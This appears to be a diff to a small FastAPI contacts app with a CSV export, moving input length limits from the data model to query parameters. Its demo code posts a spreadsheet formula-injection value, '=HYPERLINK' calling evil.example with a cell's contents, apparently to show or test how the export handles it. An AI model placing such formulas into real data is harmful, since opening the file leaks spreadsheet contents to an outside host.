@@ -6,9 +6,9 @@ import io
 from collections import deque
 from typing import Any
 
-from fastapi import FastAPI
+from fastapi import FastAPI, Query
 from fastapi.responses import Response
-from pydantic import BaseModel, Field
+from pydantic import BaseModel
 
 
 class CSVResponse(Response):
@@ -23,8 +23,8 @@ class CSVResponse(Response):
 
 
 class Contact(BaseModel):
-    name: str = Field(max_length=100)
-    city: str = Field(max_length=100)
+    name: str
+    city: str
 
 
 app = FastAPI()
@@ -33,7 +33,10 @@ CONTACTS = deque([Contact(name="Ada", city="London")], maxlen=50)
 
 
 @app.post("/contacts", status_code=201)
-def add_contact(contact: Contact) -> Contact:
+def add_contact(
+    name: str = Query(max_length=100), city: str = Query(max_length=100)
+) -> Contact:
+    contact = Contact(name=name, city=city)
     CONTACTS.append(contact)
     return contact
 
@@ -53,7 +56,7 @@ if __name__ == "__main__":
     client = TestClient(app)
 
     evil = {"name": '=HYPERLINK("http://evil.example/?"&A1,"Details")', "city": "Oslo"}
-    client.post("/contacts", json=evil)
+    client.post("/contacts", params=evil)
     export = client.get("/contacts.csv")
     print(export.status_code, export.headers["content-type"])
     #> 200 text/csv; charset=utf-8
